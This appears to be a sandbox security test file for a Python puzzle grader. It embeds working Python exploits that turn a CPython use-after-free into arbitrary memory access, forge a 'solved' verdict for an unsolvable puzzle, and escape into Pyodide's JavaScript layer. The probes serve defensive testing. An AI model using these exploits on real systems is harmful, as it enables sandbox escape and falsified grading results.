/**
 * Python that breaks CPython itself, with nothing but ordinary, harmless-looking code, and goes on from there. Data, with its
 * words. The error in CPython is real: an iterator is freed while it is being asked, and another object takes its place. What
 * stands here turns that into a window on all of the interpreter's memory. Nothing that a program finds there may help it.
 */
import type { VerdictKind } from '#/domain/verdict/verdict.ts'
import type { AftermathProbe, ProgramProbe } from './probe.ts'
import { followers } from './aftermathPrograms.ts'

/** No answer is right. */
const puzzle = 'def sat(x: int):\n    return x == 2 and x == 3'

/** However it ends, as long as it is not solved: what a broken interpreter still manages to say is its own matter. */
const blockedBy: readonly VerdictKind[] = ['wrong', 'error', 'crashed', 'breach', 'timeout', 'memory']

/** A window on all memory, as a bytearray. */
const window = `from functools import cmp_to_key
from itertools import chain

def word(number):
    return number.to_bytes(4, "little")

def address_in(text):
    """Methods tell the address of their object when they are printed."""
    return int(text.split("0x")[1].split(">")[0], 16)

def compare(pointer, value):
    """Has what lies at \`pointer\` compared with \`value\`, as if it were an object."""
    asked = [0]
    held = []
    shape = pointer << 60
    def answer():
        if asked[0]:
            return 0
        asked[0] = 1
        # The chain is asked while it asks: it lets go of the iterator that this very call comes from.
        next(links, None)
        held.append(shape + 1)
        return value
    before = [shape + i for i in range(100)]
    source = iter(answer, 0)
    after = [shape + i for i in range(10)]
    links = chain(source)
    del source
    return next(links, "equal")

BYTEARRAY = address_in(repr(bytearray.fromhex))

def forged(start, size):
    """The bytes of a bytearray over any part of memory."""
    parts = [word(1 << 20), word(BYTEARRAY), word(size), word(size + 1), word(start), word(start), word(0)]
    return bytes(b"".join(parts))

def read_byte(start):
    fake = forged(start, 1)
    at = address_in(repr(fake.hex)) + 16
    for number in range(256):
        if compare(at, bytes([number])) == "equal":
            return number

caught = []

def catch(one, other):
    caught.append(one)
    return 1

def open_window():
    global whole, key
    wrapped = cmp_to_key(catch)(5)
    kind = 0
    for i in range(4):
        kind += read_byte(address_in(repr(wrapped)) + 4 + i) << 8 * i
    whole = forged(8, 31_000_000)
    parts = [word(1 << 20), word(kind), word(address_in(repr(catch))), word(address_in(repr(whole.hex)) + 16)]
    key = bytes(b"".join(parts))
    compare(address_in(repr(key.hex)) + 16, wrapped)
    return caught[0]
`

const attacks: Readonly<Record<string, readonly [title: string, sentence: string, code: string]>> = {
  verdict: [
    'Turn “wrong” into “solved” in memory',
    'Broken from inside, the interpreter says what the program likes; two others, fresh ones, are asked before it is believed.',
    `def sol():
    memory = open_window()
    text_kind = word(address_in(repr(str.maketrans)))
    place = memory.find(b"wrong\\0")
    while place >= 0:
        if memory[place - 12:place - 8] == word(5) and memory[place - 16:place - 12] == text_kind:
            memory[place - 12] = 6
            memory[place - 8:place - 4] = b"\\xff\\xff\\xff\\xff"
            memory[place:place + 7] = b"solved\\0"
        place = memory.find(b"wrong\\0", place + 1)
    return 1`,
  ],
  javascript: [
    'Climb from memory into JavaScript',
    'Puts back the bridge that was taken away, and changes JavaScript for all that follow. The way there is sealed.',
    `def sol():
    memory = open_window()
    for name in (b"pyodide_core\\0", b"ctypes\\0"):
        place = memory.find(b"\\xff" + name)
        while place >= 0:
            memory[place] = ord("_")
            place = memory.find(b"\\xff" + name, place + 1)
    import _imp, sys
    del sys.meta_path[0]
    import importlib.machinery as machinery
    native = _imp.create_builtin(machinery.ModuleSpec("_ctypes", machinery.BuiltinImporter))
    _imp.exec_builtin(native)
    start = native.dlsym(native.dlopen(None, 0), "PyInit__pyodide_core")
    class Object(native._SimpleCData):
        _type_ = "O"
    class Function(native.CFuncPtr):
        _flags_ = native.FUNCFLAG_CDECL | native.FUNCFLAG_PYTHONAPI
        _restype_ = Object
    bridge = Function(start)()
    Objects = bridge.to_js(b"ab").entries().next().constructor
    Array = Objects.getOwnPropertyNames(bridge.to_js(b"x")).constructor
    prototypes = Array.of(bridge.create_proxy(sol)).map(Objects.getPrototypeOf)
    reply = Objects('{"kind": "solved", "message": "sat returned True.", "room": "puzzle", "traceback": [], "answer": "1", "output": ""}')
    prototypes.apply = reply.constructor.prototype.valueOf.bind(reply)
    prototypes.forEach(Objects.assign)
    return 1`,
  ],
}

const entries = Object.entries(attacks)
const pairOf = (code: string) => ({ puzzle, solution: `${window}\n${code}` })

/** The attacks, each of which wants a wrong answer of its own to be called right. */
export const memoryPrograms: readonly ProgramProbe[] = entries.map(([name, [title, sentence, code]]) => ({
  kind: 'program',
  group: 'memory',
  id: `memory:${name}`,
  title,
  sentence,
  pair: pairOf(code),
  blockedBy,
  inGate: false,
}))

/** The same, each followed by right and wrong programs, which must be called what they are. */
export const memoryAftermaths: readonly AftermathProbe[] = entries.map(([name, [title, , code]]) => ({
  kind: 'aftermath',
  id: `aftermath:memory-${name}`,
  title,
  sentence: 'All memory is put back afterwards, and what lies outside of it was out of reach.',
  pair: pairOf(code),
  ...followers,
  inGate: false,
}))
